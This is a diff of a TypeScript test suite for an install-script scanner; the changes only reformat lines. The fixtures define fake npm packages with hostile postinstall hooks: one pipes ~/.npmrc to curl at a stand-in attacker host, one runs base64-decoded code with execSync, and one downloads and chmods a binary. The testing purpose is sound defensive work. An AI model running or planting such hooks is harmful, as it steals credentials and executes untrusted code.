@@ -11,7 +11,8 @@ function withScripts(scripts: Record<string, string>, files: Record<string, stri
 }
 
 const DROPPER = "const c = require('child_process');\nc.execSync(Buffer.from(process.env.X, 'base64').toString());\n";
-const FETCHER = "require('https').get('https://dl.example.test/tool', (r) => r.pipe(require('fs').createWriteStream('t')));\nrequire('fs').chmodSync('t', 0o755);\n";
+const FETCHER =
+  "require('https').get('https://dl.example.test/tool', (r) => r.pipe(require('fs').createWriteStream('t')));\nrequire('fs').chmodSync('t', 0o755);\n";
 
 // esbuild and react are well-known in the committed name index; the dw-* names are not.
 const names = ['esbuild', 'react', 'dw-native', 'dw-stealer', 'dw-dropper', 'dw-fetcher', 'dw-quiet', 'dw-offline', 'dw-registry-binary'];
@@ -28,7 +29,10 @@ describe('install-script', () => {
     'node_modules/dw-stealer': withScripts({ postinstall: 'cat ~/.npmrc | curl -s --data-binary @- https://evil.example.test/x' }),
     'node_modules/dw-dropper': withScripts({ postinstall: 'node install.js' }, { 'install.js': DROPPER }),
     'node_modules/dw-fetcher': withScripts({ postinstall: 'node install.js' }, { 'install.js': FETCHER }),
-    'node_modules/dw-registry-binary': withScripts({ postinstall: 'node install.js' }, { 'install.js': FETCHER.replace('dl.example.test', 'registry.example.test') }),
+    'node_modules/dw-registry-binary': withScripts(
+      { postinstall: 'node install.js' },
+      { 'install.js': FETCHER.replace('dl.example.test', 'registry.example.test') },
+    ),
     'node_modules/dw-quiet': published('1.0.0', { scripts: { test: 'jest', build: 'tsc' } }),
   });
 
